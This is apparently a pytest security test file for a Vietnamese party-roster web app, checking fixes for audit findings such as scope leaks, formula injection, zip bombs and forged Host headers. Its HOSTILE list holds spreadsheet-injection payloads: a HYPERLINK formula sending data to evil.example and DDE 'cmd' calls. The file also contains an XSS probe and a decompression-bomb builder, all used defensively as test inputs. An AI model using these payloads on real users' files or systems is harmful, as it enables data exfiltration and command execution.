"""Security of the roster and its files (issue 12): H2, M2, M4, L4, L8, L9 and L10 (reads).

Each test is named after the finding it keeps closed.
"""

from __future__ import annotations

import re

from sqlalchemy import select

from blueprints.audit.models import AuditEntry
from core.extensions import db
from tests.conftest import csrf_token
from tests.roster.helpers import issue_slips, job_id_of, member_row, upload, xlsx

# ------------------------------------------------------------------------------------ H2


def test_h2_import_preview_hides_the_owner_of_a_card_outside_scope(app, client, world, as_role):
    app.config["JOBS_INLINE"] = True
    as_role("staff_d1")
    # 52100005 belongs to Võ Minh Châu, cell C of the other committee (D2).
    rows = [member_row("52100005", "Người Lạ Mặt", "A")]
    job_id = job_id_of(upload(client, xlsx(rows), unit_id=world.units["D1"]))
    html = client.get(f"/roster/jobs/{job_id}").get_data(as_text=True)
    csv_text = client.get(f"/roster/jobs/{job_id}/rejected.csv").get_data(as_text=True)
    for text in (html, csv_text):
        assert "ngoài các đơn vị đồng chí phụ trách" in text
        assert "Võ Minh Châu" not in text and "An Vĩnh" not in text and "Lý Sơn" not in text


def test_h2_import_does_not_name_a_unit_outside_scope(app, client, world, as_role):
    app.config["JOBS_INLINE"] = True
    as_role("staff_d1")
    job_id = job_id_of(
        upload(client, xlsx([member_row("52100301", "Ai Đó", "D2")]), unit_id=world.units["D1"])
    )
    html = client.get(f"/roster/jobs/{job_id}").get_data(as_text=True)
    assert "không thuộc các đơn vị đồng chí phụ trách" in html and "Lý Sơn" not in html


def _card_request(app, client, world, as_role) -> int:
    as_role("member_a")
    token = csrf_token(client, "/card-requests/new")
    response = client.post(
        "/card-requests/new", data={"csrf_token": token, "kind": "lost", "details": "Mất thẻ."}
    )
    client.post("/logout", data={"csrf_token": csrf_token(client, "/")})
    return int(re.search(r"/card-requests/(\d+)", response.headers["Location"]).group(1))


def _approve(client, request_id: int, number: str):
    token = csrf_token(client, f"/card-requests/{request_id}")
    return client.post(
        f"/card-requests/{request_id}/approve",
        data={"csrf_token": token, "approve-new_card_number": number},
    )


def test_h2_card_approval_does_not_reveal_an_owner_outside_scope(app, client, world, as_role):
    request_id = _card_request(app, client, world, as_role)
    as_role("staff_d1")
    outside = _approve(client, request_id, "52100005")  # Võ Minh Châu, cell C of D2
    text = outside.get_data(as_text=True)
    assert outside.status_code == 422 and "không còn trống" in text
    assert "Võ Minh Châu" not in text and "An Vĩnh" not in text
    inside = _approve(client, request_id, "52100004")  # Phạm Thị Đào, cell B of D1: in scope
    assert inside.status_code == 422 and "Phạm Thị Đào" in inside.get_data(as_text=True)
    with app.app_context():
        refused = db.session.scalars(
            select(AuditEntry).where(AuditEntry.action == "card_request.number_taken")
        ).all()
        assert [e.details["card"] for e in refused] == ["52100005", "52100004"]


# ------------------------------------------------------------------------------------ M2

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _cells_of(response) -> list:
    """Every cell value of an .xlsx or CSV download, checking .xlsx cells are never formulas."""
    import csv
    import io

    from openpyxl import load_workbook

    if response.mimetype == "text/csv":
        text = response.get_data(as_text=True).lstrip("\ufeff")
        return [v for row in csv.reader(io.StringIO(text), delimiter=";") for v in row]
    book = load_workbook(io.BytesIO(response.data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def _assert_inert(values: list) -> None:
    from core.spreadsheets import FORMULA_PREFIXES

    for value in values:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_PREFIXES), value


def test_m2_spreadsheet_safe_escapes_formulas_and_keeps_numbers():
    from core.spreadsheets import spreadsheet_safe

    for value in HOSTILE:
        assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(-2.5) == -2.5
    assert spreadsheet_safe("-12,5") == "-12,5" and spreadsheet_safe(None) is None
    assert spreadsheet_safe("Chi bộ An Phú") == "Chi bộ An Phú"


def test_m2_every_spreadsheet_download_is_inert(app, client, world, as_role):
    """Sweep: every route that answers .xlsx/.csv, fed hostile values, has no live formula."""
    from blueprints.units.models import Unit

    app.config["JOBS_INLINE"] = True
    with app.app_context():
        for code, name in (("D1", HOSTILE[0]), ("D2", HOSTILE[3])):
            unit = db.session.scalar(select(Unit).where(Unit.code == code))
            unit.name = name
        db.session.commit()
    as_role("admin")
    rows = [member_row(v, v, "A", phone="") for v in HOSTILE]
    job_id = job_id_of(upload(client, xlsx(rows), unit_id=world.units["P"]))
    csv_job = job_id_of(
        upload(
            client,
            "\n".join(
                ";".join(r)
                for r in [["Số thẻ", "Họ và tên", "Mã chi bộ"], *[[v, v, "A"] for v in HOSTILE]]
            ).encode(),
            "ds.csv",
            unit_id=world.units["P"],
        )
    )
    urls = {
        "/adoption/<int:unit_id>.xlsx": [f"/adoption/{world.units['P']}.xlsx"],
        "/adoption/<int:unit_id>.csv": [
            f"/adoption/{world.units['P']}.csv?table={table}" for table in ("adoption", "quality")
        ],
        "/roster/template/<kind>.xlsx": [
            "/roster/template/members.xlsx",
            "/roster/template/units.xlsx",
        ],
        "/roster/jobs/<int:job_id>/rejected.csv": [
            f"/roster/jobs/{job_id}/rejected.csv",
            f"/roster/jobs/{csv_job}/rejected.csv",
        ],
    }
    spreadsheet_rules = {
        r.rule for r in app.url_map.iter_rules() if r.rule.endswith((".xlsx", ".csv", ".ods"))
    }
    assert spreadsheet_rules == set(urls), "a new spreadsheet route needs to join this sweep"
    seen_hostile = 0
    for paths in urls.values():
        for path in paths:
            response = client.get(path)
            assert response.status_code == 200, path
            values = _cells_of(response)
            _assert_inert(values)
            hits = [v for v in values if isinstance(v, str) and v[:1] == "'"]
            seen_hostile += len(hits)
    assert seen_hostile >= 12  # the hostile values did reach the files (2 units, 2 × 5 rows)


def test_m2_no_spreadsheet_writer_outside_core_spreadsheets():
    """Every .xlsx/CSV writer goes through core.spreadsheets (so none skips the escaping)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    pattern = re.compile(r"\bWorkbook\(|csv\.writer|csv\.DictWriter|xlsxwriter|odf\.")
    offenders = [
        str(path.relative_to(root))
        for folder in ("blueprints", "core")
        for path in (root / folder).rglob("*.py")
        if path.name != "spreadsheets.py" and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


# ------------------------------------------------------------------------------------ L9


def test_l9_names_with_markup_or_formulas_are_refused_with_a_reason(app, client, world, as_role):
    from blueprints.members.models import Member
    from tests.roster.helpers import units_xlsx

    app.config["JOBS_INLINE"] = True
    as_role("staff_d1")
    rows = [
        member_row("52100401", "<script>alert(1)</script>", "A"),
        member_row("52100402", "<b>Nguyễn Văn Đậm</b>", "A"),
        member_row("52100403", '=HYPERLINK("http://x")', "A"),
        member_row("52100404", "@Trần Văn A", "A"),
        member_row("52100405", "Lê Văn {Ngoặc}", "A"),
        member_row("52100406", "H'Hen Niê", "A"),  # a real Ê Đê name: accepted
    ]
    job_id = job_id_of(upload(client, xlsx(rows), unit_id=world.units["D1"]))
    html = client.get(f"/roster/jobs/{job_id}").get_data(as_text=True)
    assert "<script>alert(1)</script>" not in html and "<b>Nguyễn" not in html
    assert html.count("dạng mã trang web") == 2 and "Excel sẽ hiểu là công thức" in html
    assert "không dùng trong tên" in html
    from tests.roster.helpers import commit

    commit(client, job_id)
    units_job = job_id_of(
        upload(
            client,
            units_xlsx([["X-1", "<i>Chi bộ</i>", "G1", "chi bộ"]]),
            kind="units",
            unit_id=world.units["D1"],
        )
    )
    assert "dạng mã trang web" in client.get(f"/roster/jobs/{units_job}").get_data(as_text=True)
    with app.app_context():
        names = set(db.session.scalars(select(Member.full_name)))
        assert "H'Hen Niê" in names
        assert not any(ch in n for n in names for ch in "<>=@{")


# ------------------------------------------------------------------------------------ M4


def _bomb(rows: int, *, numbered: bool = False, level: int = 9) -> bytes:
    """A real .xlsx whose sheet holds `rows` tiny rows: small on disk, huge unpacked.

    Rows without an `r` attribute (allowed by the format) repeat exactly and compress about
    a thousand times, like the audit's 256 KB file; numbered rows compress about 15 times.
    """
    import io
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(xlsx([member_row("52100001", "Nguyễn Văn An")])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as bomb:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(info.filename, source.read(info.filename))
                continue
            xml = source.read(info.filename).decode()
            xml = re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="A1:I{rows + 2}"/>', xml)
            head, tail = xml.split("</sheetData>")
            with bomb.open(info.filename, "w") as sheet:
                sheet.write(head.encode())
                chunk = []
                for n in range(3, rows + 3):
                    ref = f' r="{n}"' if numbered else ""
                    chunk.append(f'<row{ref}><c t="inlineStr"><is><t>1</t></is></c></row>')
                    if len(chunk) == 10_000:
                        sheet.write("".join(chunk).encode())
                        chunk = []
                sheet.write(("".join(chunk) + "</sheetData>" + tail).encode())
    return out.getvalue()


def test_m4_xlsx_bomb_is_refused_before_parsing(app, client, world, as_role):
    import time

    from blueprints.roster.reading import RosterFileError, read_sheet

    data = _bomb(600_000)
    assert len(data) < 300 * 1024  # small on disk
    started = time.process_time()
    with app.test_request_context():
        try:
            read_sheet(data, "bom.xlsx", "members")
        except RosterFileError as exc:
            message = str(exc)
        else:
            raise AssertionError("the bomb was read")
    assert time.process_time() - started < 2
    assert "giải nén lớn bất thường" in message
    app.config["JOBS_INLINE"] = True
    as_role("staff_d1")
    job_id = job_id_of(upload(client, data, "bom.xlsx", unit_id=world.units["D1"]))
    assert "giải nén lớn bất thường" in client.get(f"/roster/jobs/{job_id}").get_data(as_text=True)


def test_m4_rows_are_streamed_and_reading_stops_at_the_limit(app, monkeypatch):
    from blueprints.roster import reading

    monkeypatch.setattr(reading, "MAX_ROWS", 500)
    monkeypatch.setattr(reading, "PROGRESS_EVERY", 100)
    seen = []
    data = _bomb(
        20_000, numbered=True, level=1
    )  # passes the archive checks: only the row limit stops it
    with app.test_request_context():
        reading.check_xlsx_archive(data)
        try:
            reading.read_sheet(data, "lon.xlsx", "members", progress=lambda n, _t: seen.append(n))
        except reading.RosterFileError as exc:
            assert "quá nhiều dòng" in str(exc)
        else:
            raise AssertionError("the row limit did not apply")
    assert max(seen) <= 600  # stopped right after the limit, not at row 20.000


def test_l9_a_csv_mixing_utf8_and_cp1258_is_refused_naming_both(app, client, world, as_role):
    from tests.test_legacy_vn import to_cp1258

    app.config["JOBS_INLINE"] = True
    names = ["Trần Thị Hồng Nhung", "Lê Văn Đức", "Phạm Minh Tuấn", "Nguyễn Thị Lan"] * 8
    legacy = to_cp1258("".join(f"5210{i:04};{n};A\n" for i, n in enumerate(names)))
    header = to_cp1258("Số thẻ;Họ và tên;Mã chi bộ\n")
    as_role("staff_d1")
    for data in (
        header + legacy + "52109999;Nguyễn Văn Ân;A\n".encode(),  # mostly cp1258
        "Số thẻ;Họ và tên;Mã chi bộ\n".encode() + legacy[:40] + b"\n",  # mostly UTF-8
    ):
        job_id = job_id_of(upload(client, data, "ds.csv", unit_id=world.units["D1"]))
        html = client.get(f"/roster/jobs/{job_id}").get_data(as_text=True)
        assert "trộn lẫn hai bảng mã" in html and "Windows-1258" in html and "UTF-8" in html


# ------------------------------------------------------------------------------------ L4


def test_l4_forged_host_gets_a_vietnamese_400_never_a_500(client, world):
    for method, path, headers in (
        ("get", "/", {}),
        ("get", "/login", {}),
        ("get", "/news/feed.atom", {}),
        ("get", "/khong-co-trang-nay", {}),
        ("get", "/roster/import", {"HX-Request": "true"}),
        ("post", "/login", {}),
    ):
        response = getattr(client, method)(path, headers={"Host": "evil.example", **headers})
        text = response.get_data(as_text=True)
        assert response.status_code == 400, (path, response.status_code)
        assert "Địa chỉ máy chủ không hợp lệ" in text and "evil.example" not in text
    # the machine's own names keep working without configuration (make run, the tests)
    for host in ("localhost", "127.0.0.1:5000"):
        assert client.get("/login", headers={"Host": host}).status_code == 200


def test_l4_public_url_builds_every_absolute_url(app, client, world, as_role, monkeypatch):
    from blueprints.handbook.models import Kind
    from blueprints.units.models import Unit
    from core.urls import external_url
    from tests.conftest import make_member
    from tests.handbook.helpers import make_article
    from tests.roster.helpers import pdf_text

    with app.app_context():
        make_article(world.units["P"], "Tin toàn tỉnh", "Nội dung.", kind=Kind.NEWS)
        make_member("52100601", "Đinh Văn Mới", db.session.get(Unit, world.units["A"]))
        db.session.commit()
    as_role("staff_d1")
    for key, value in {
        "PUBLIC_URL": "https://sotay.example.vn",
        "SERVER_NAME": "sotay.example.vn",
        "PREFERRED_URL_SCHEME": "https",
        "TRUSTED_HOSTS": ["sotay.example.vn", "localhost", "127.0.0.1"],
    }.items():
        monkeypatch.setitem(app.config, key, value)
    # Requests reach the app under another trusted name: absolute URLs still use PUBLIC_URL.
    local = {"base_url": "http://localhost"}
    feed = client.get("/news/feed.atom", **local).get_data(as_text=True)
    links = re.findall(r'href="([^"]+)"', feed)
    assert links and all(link.startswith("https://sotay.example.vn/") for link in links)
    assert "localhost" not in feed
    pdf = issue_slips(client, world.units["A"], "new", **local)
    assert pdf.mimetype == "application/pdf", pdf.get_data(as_text=True)[:300]
    text = pdf_text(pdf.data)
    assert "https://sotay.example.vn" in text and "localhost" not in text
    with app.test_request_context("/", base_url="http://localhost"):
        assert external_url("auth.login", card="1") == "https://sotay.example.vn/login?card=1"
        assert external_url("meetings.checkin", meeting_id=1, code="123456").startswith(
            "https://sotay.example.vn/meetings/1/"
        )


def test_l4_configuration_from_the_environment(monkeypatch):
    import pytest

    from core.config import public_url_settings

    monkeypatch.delenv("PUBLIC_URL", raising=False)
    monkeypatch.delenv("TRUSTED_HOSTS", raising=False)
    default = public_url_settings()
    assert default["PUBLIC_URL"] is None and "SERVER_NAME" not in default
    assert default["TRUSTED_HOSTS"] == ["localhost", "127.0.0.1"]
    monkeypatch.setenv("PUBLIC_URL", "https://sotay.quangngai.vn/")
    monkeypatch.setenv("TRUSTED_HOSTS", "sotay.internal, .quangngai.vn")
    settings = public_url_settings()
    assert settings["PUBLIC_URL"] == "https://sotay.quangngai.vn"
    assert settings["SERVER_NAME"] == "sotay.quangngai.vn"
    assert settings["PREFERRED_URL_SCHEME"] == "https"
    assert settings["TRUSTED_HOSTS"][:3] == [
        "sotay.internal",
        ".quangngai.vn",
        "sotay.quangngai.vn",
    ]
    monkeypatch.setenv("PUBLIC_URL", "sotay.quangngai.vn")
    with pytest.raises(ValueError):
        public_url_settings()


def test_l9_every_4xx_answer_has_its_own_title_409_included(app, client, world, as_role):
    from werkzeug.exceptions import default_exceptions

    system_fault = "Hệ thống đang gặp sự cố"
    with app.test_request_context("/"):
        for code, exception in default_exceptions.items():
            if not 400 <= code < 500:
                continue
            response = app.make_response(app.handle_http_exception(exception()))
            assert response.status_code == code
            assert system_fault not in response.get_data(as_text=True), code
        conflict = app.make_response(app.handle_http_exception(default_exceptions[409]()))
        html = conflict.get_data(as_text=True)
        assert "Dữ liệu vừa thay đổi" in html and "tải lại trang" in html
    # A real 4xx the app answers without its own text: a byte range beyond a download's end.
    as_role("staff_p")
    response = client.get(
        f"/adoption/{world.units['P']}.xlsx", headers={"Range": "bytes=99999999-"}
    )
    assert response.status_code == 416
    assert system_fault not in response.get_data(as_text=True)


# ------------------------------------------------------------------------------------ L8


def test_l8_instance_folder_secret_key_and_sqlite_files_are_private(tmp_path):
    import os
    import stat

    from sqlalchemy import create_engine, text

    from core.config import _instance_secret
    from core.filemodes import private_dir

    def mode(path) -> int:
        return stat.S_IMODE(os.stat(path).st_mode)

    old_umask = os.umask(0o022)  # the usual umask, which gives 0644 files and 0755 folders
    try:
        instance = tmp_path / "fresh" / "instance"
        private_dir(instance)
        key = _instance_secret(str(instance))
        assert len(key) > 40 and _instance_secret(str(instance)) == key
        assert mode(instance) == 0o700 and mode(instance / "secret_key") == 0o600
        # A key left 0644 by an older version is tightened on the next start.
        os.chmod(instance / "secret_key", 0o644)
        _instance_secret(str(instance))
        assert mode(instance / "secret_key") == 0o600
        database = instance / "sotay.sqlite3"
        engine = create_engine(f"sqlite:///{database}")
        with engine.begin() as conn:
            conn.execute(text("CREATE TABLE t (x INTEGER)"))
            conn.execute(text("INSERT INTO t VALUES (1)"))
        with engine.connect() as conn:  # WAL and SHM exist while a connection is open
            conn.execute(text("SELECT * FROM t")).all()
            files = sorted(p.name for p in instance.iterdir())
            assert {"sotay.sqlite3", "sotay.sqlite3-wal", "sotay.sqlite3-shm"} <= set(files)
            for name in files:
                assert mode(instance / name) == 0o600, name
        engine.dispose()
    finally:
        os.umask(old_umask)


# ------------------------------------------------------------------------------------ L10


def test_l10_roster_reads_and_exports_are_audited_once_per_read(app, client, world, as_role):
    app.config["JOBS_INLINE"] = True

    def entries() -> list[tuple[str, str]]:
        with app.app_context():
            rows = db.session.execute(
                select(AuditEntry.action, AuditEntry.object_id)
                .where(AuditEntry.action.notin_(("auth.login", "roster.upload")))
                .order_by(AuditEntry.id)
            )
            return [tuple(r) for r in rows]

    as_role("staff_d1")
    unit_a, d1 = str(world.units["A"]), str(world.units["D1"])
    # A list read, then paging and search as you type: one entry, not one per request.
    client.get(f"/roster/units/{d1}/members")
    client.get(f"/roster/units/{d1}/members?page=2")
    for q in ("n", "ng", "ngu"):
        client.get(f"/roster/units/{d1}/members?q={q}", headers={"HX-Request": "true"})
    client.get(f"/units/{unit_a}")
    client.get(f"/members/{world.members['mem_a']}")
    client.get(f"/members/{world.members['mem_a']}")
    # Every download of an export is its own entry.
    job_id = job_id_of(upload(client, xlsx([member_row("", "Thiếu Thẻ")]), unit_id=int(d1)))
    client.get(f"/roster/jobs/{job_id}/rejected.csv")
    client.get(f"/adoption/{d1}.xlsx")
    client.get(f"/adoption/{d1}.xlsx")
    assert (
        entries()
        == [
            ("roster.members_viewed", d1),
            ("roster.cell_viewed", unit_a),
            ("member.viewed", str(world.members["mem_a"])),
            ("roster.import_members", str(job_id)),
            ("roster.rejected_exported", str(job_id)),
            ("adoption.exported", d1),
            ("adoption.exported", d1),
        ]
        or entries()
    )
    # The administrator reads them in Vietnamese on the audit page.
    client.post("/logout", data={"csrf_token": csrf_token(client, "/")})
    as_role("admin")
    html = client.get("/admin/audit").get_data(as_text=True)
    assert "Xem danh sách đảng viên" in html and "Tải bảng tình hình sử dụng" in html
    assert "Xem hồ sơ đảng viên" in html
